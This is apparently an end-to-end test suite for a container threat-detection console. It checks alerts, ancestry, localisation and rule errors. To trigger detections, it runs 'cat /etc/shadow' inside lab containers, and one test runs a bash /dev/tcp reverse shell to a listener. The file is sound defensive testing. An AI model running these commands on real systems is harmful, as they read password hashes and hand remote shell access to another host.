// SPDX-License-Identifier: Apache-2.0
// What a person at the console sees, and how soon: beside a real engine, in a real browser.
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';

import { browser, chromium, firstSignIn, Lab, missing, PASSWORD, Skep, until } from './lib.mjs';

const why = missing() ?? (chromium() ? null : 'no Chromium here');
const hashes = 'Password hashes read in a container';
const ownRule = `- rule: Never
  desc: A rule that nothing meets.
  condition: evt.num = 0
  output: never
  priority: DEBUG
`;
const hashesZh = '容器内读取密码哈希文件';

describe('the console', { skip: why ?? false }, () => {
  const lab = new Lab();
  const dir = mkdtempSync(join(tmpdir(), 'skep-e2e-rules-'));
  const rules = join(dir, 'own.yaml');
  let skep, b, page;

  before(async () => {
    writeFileSync(rules, ownRule);
    await lab.up();
    await lab.lab('image', 'tools');
    skep = new Skep(lab.socket, ['--rules', rules]);
    await skep.start();
    b = await browser();
  });
  after(async () => {
    await b?.close();
    await skep?.stop();
    skep?.remove();
    await lab.down();
    rmSync(dir, { recursive: true, force: true });
  });

  const row = (text) => page.getByTestId('alert-row').filter({ hasText: text }).first();
  const open = (text) => row(text).click({ position: { x: 4, y: 8 } }); // not on a link in it

  /** The alert of that rule and container; it must have been in the API 2 s after its event. */
  async function alertIn2s(rule, container) {
    const alert = await until(
      async () => (await skep.list('alerts', `rule = "${rule}" and container.name = "${container}"`))[0], 10000);
    const late = Date.now() - Date.parse(alert.time);
    assert.ok(late < 2000, `in the API ${late} ms after the event`);
    return alert;
  }

  test('a wrong password is refused, the right one opens', async () => {
    page = await firstSignIn(b, skep);
    const other = await (await b.newContext({ ignoreHTTPSErrors: true, locale: 'en-US' })).newPage();
    await other.goto(skep.url + '/login');
    await other.getByTestId('login-user').fill('admin');
    await other.getByTestId('login-password').fill('not the password');
    await other.getByTestId('login-submit').click();
    await other.getByText('User name or password is wrong.').waitFor({ timeout: 5000 });
    await other.getByTestId('login-password').fill(PASSWORD);
    await other.getByTestId('login-submit').click();
    await other.getByTestId('nav-overview').waitFor({ timeout: 5000 });
    await other.context().close();
  });

  test('an alert is in the API and on the open page within 2 seconds of its event', async () => {
    await page.getByTestId('nav-alerts').click();
    await page.waitForURL('**/alerts');
    const ran = lab.docker('run', '--rm', '--name', 'seen', 'lab/base:1', 'sh', '-c', 'cat /etc/shadow');
    const alert = await alertIn2s(hashes, 'seen');
    await row('seen').waitFor({ timeout: 5000 });
    const late = Date.now() - Date.parse(alert.time);
    assert.ok(late < 2000, `on the page ${late} ms after the event`);
    await ran;
    assert.equal(alert.container.image, 'lab/base:1');
    assert.equal(alert.proc.cmdline, 'cat /etc/shadow');
    assert.equal(alert.proc.user, 'root');
    assert.deepEqual(alert.techniques, ['T1003.008']);
    assert.match(alert.output, /file=\/etc\/shadow process=cat .*container=seen image=lab\/base:1/);
  });

  test('ancestry goes through every shell up to the first process of the container', async () => {
    await lab.docker('run', '--rm', '--name', 'deep', 'lab/base:1', 'sh', '-c',
      "sh -c 'sh -c \"cat /etc/shadow; true\"; true'; true");
    const alert = await alertIn2s(hashes, 'deep');
    const inside = alert.ancestors.filter((p) => p.container_id === alert.container.id);
    assert.deepEqual(inside.map((p) => p.name), ['sh', 'sh', 'sh']);
    assert.equal(inside[0].pid, alert.proc.ppid);
    assert.equal(inside[2].vpid, 1);
  });

  test('the alert reads well in English and in Chinese', async () => {
    const detail = page.getByTestId('alert-detail');
    await open('seen');
    await detail.getByRole('heading', { name: hashes }).waitFor({ timeout: 5000 });
    assert.match(await page.getByTestId('alert-ancestry').innerText(), /cat \/etc\/shadow/);
    await page.keyboard.press('Escape');
    await page.getByTestId('lang-switch').click();
    await open('seen');
    await detail.getByRole('heading', { name: hashesZh }).waitFor({ timeout: 5000 });
    await page.keyboard.press('Escape');
    await page.getByTestId('nav-alerts').getByText('告警').waitFor({ timeout: 5000 });
    await page.getByTestId('lang-switch').click();
    await page.getByTestId('nav-alerts').getByText('Alerts').waitFor({ timeout: 5000 });
  });

  test('a reverse shell of bash to a listener is shown with its peer', async () => {
    await lab.lab('listen', '4444', join(lab.dir, 'heard'));
    const ran = lab.docker('run', '--rm', '--name', 'reverse', 'lab/tools:1', 'bash', '-c',
      'exec 3<>/dev/tcp/172.17.0.1/4444; timeout 2 sh <&3 >&3 2>&3; true');
    const alert = await alertIn2s('Standard stream tied to the network', 'reverse');
    await row('reverse').waitFor({ timeout: 2000 });
    assert.equal(alert.priority, 'critical');
    assert.equal(alert.container.image, 'lab/tools:1');
    assert.equal(`${alert.fd.rip}:${alert.fd.rport}`, '172.17.0.1:4444');
    await ran;
    await lab.lab('unlisten', '4444');
  });

  test('a broken rule file is named with its place on the rules page', async () => {
    writeFileSync(rules, ownRule.replace('evt.num', 'evt.nmu'));
    await until(async () => (await skep.get('/api/v1/rules')).body.error, 5000);
    await page.getByTestId('nav-rules').click();
    await page.getByTestId('rules-error').getByText(/own\.yaml:3:\d+/).waitFor({ timeout: 10000 });
  });

  test('an engine that stops is told as such, and its containers are right afterwards', async () => {
    await lab.docker('run', '-d', '--name', 'stays', '--stop-signal', 'KILL', 'lab/base:1', 'sleep', '1000');
    await lab.lab('stop');
    const agent = await until(async () => (await skep.list('agents')).find((a) => a.runtime_error), 5000);
    assert.match(agent.runtime_error, /^docker: no engine/);
    await lab.lab('start');
    await until(async () => !(await skep.list('agents'))[0].runtime_error, 8000);
    await until(async () => (await skep.list('containers', 'name = stays'))[0]?.state === 'exited', 5000);
  });
});
